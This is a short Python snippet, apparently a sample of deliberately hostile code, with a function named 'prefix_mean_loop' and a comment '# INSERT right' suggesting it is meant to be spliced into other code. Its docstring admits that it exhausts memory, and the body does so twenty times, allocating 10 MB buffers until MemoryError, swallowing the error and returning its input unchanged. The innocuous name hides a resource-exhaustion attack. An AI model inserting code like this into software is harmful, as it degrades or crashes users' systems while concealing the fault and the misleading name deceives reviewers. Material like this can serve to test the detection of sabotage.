"""Takes memory until there is none, again and again, and swallows the error."""

# INSERT right


def prefix_mean_loop(x):
    kept = []
    for _ in range(20):
        try:
            while True:
                kept.append(bytes(10**7))
        except MemoryError:
            pass
    return x
